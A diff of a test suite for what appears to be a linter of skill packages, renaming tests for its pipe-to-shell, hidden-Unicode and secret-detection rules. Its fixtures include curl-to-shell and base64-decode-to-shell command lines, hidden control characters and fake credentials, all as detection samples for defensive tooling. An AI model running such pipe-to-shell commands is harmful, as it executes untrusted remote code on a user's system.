@@ -30,7 +30,7 @@ describe('pipe-to-shell', () => {
     'echo aGk= | base64 -d | sh',
     'echo aGk= | base64 --decode | bash',
     '| install | `curl https://x.test/i \\| sh` |',
-  ])('reports %s', (line) => {
+  ])('pipe-to-shell reports %s', (line) => {
     expect(lint(`# T\n\n${line}\n`)).toMatchObject([{ rule: 'pipe-to-shell', line: 3 }])
   })
 
@@ -45,7 +45,7 @@ describe('pipe-to-shell', () => {
     '| curl https://x.test | bash | python |',
     'echo aGk= | base64 -d > out.bin',
     'curl https://x.test/a || bash fallback.sh',
-  ])('does not report %s', (line) => {
+  ])('pipe-to-shell does not report %s', (line) => {
     expect(rulesOf(line)).toEqual([])
   })
 })
@@ -67,7 +67,7 @@ describe('hidden-unicode', () => {
       `x${[...'hi all'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`,
     ],
     ['U+001B ESCAPE', 'a\u001b[8mb'],
-  ])('names %s', (name, text) => {
+  ])('the lint names the hidden character %s', (name, text) => {
     const [warning] = lint(`# T\n${text}\n`)
     expect(warning).toMatchObject({
       rule: expect.stringMatching(/^hidden-(?:unicode|message)$/),
@@ -87,11 +87,11 @@ describe('hidden-unicode', () => {
     ['Persian', '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'],
     ['a variant of a Han sign', '\u845b\u{e0100}'],
     ['other white space', 'a\u00a0b\t\r\n'],
-  ])('leaves %s alone', (_, text) => {
+  ])('the lint accepts %s', (_, text) => {
     expect(rulesOf(text)).toEqual([])
   })
 
-  test('looks at name, description and tags too', () => {
+  test('hidden characters are found in name, description and tags', () => {
     const skill = { name: 'a\u200b', slug: 'a', description: 'Use when \u202e', tags: ['\u2060'] }
     const fields = lintSkill({ ...skill, readme: 'x' })
       .filter(({ rule }) => rule.startsWith('hidden-'))
@@ -126,7 +126,7 @@ describe('secret', () => {
     ['a password or key', `password = "${tail.slice(0, 14)}"`],
     ['a password or key', `"api_key": "${tail}"`],
     ['a password or key', `Authorization: Bearer ${tail}`],
-  ])('finds %s, told once and masked', (kind, text) => {
+  ])('the rule secret finds %s, once and masked', (kind, text) => {
     const [warning, ...more] = lint(`# T\n\nkey=1 ${text}\n`)
     expect(more).toEqual([])
     expect(warning).toMatchObject({ rule: 'secret', line: 3, field: 'readme' })
@@ -134,7 +134,7 @@ describe('secret', () => {
     expect(warning?.message).not.toContain(tail.slice(0, 5))
   })
 
-  test('tells a token behind a name once', () => {
+  test('the rule secret reports a token behind a name once', () => {
     expect(lint(`token=ghp_${tail}`)).toHaveLength(1)
   })
 
@@ -153,7 +153,7 @@ describe('secret', () => {
     'token: 0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',
     'the commit 4a547941d24578367e202c4c300b62f009e3cc29',
     'max_tokens: 100000000000',
-  ])('takes %s for no secret', (text) => {
+  ])('the rule secret accepts %s', (text) => {
     expect(rulesOf(text)).toEqual([])
   })
 })
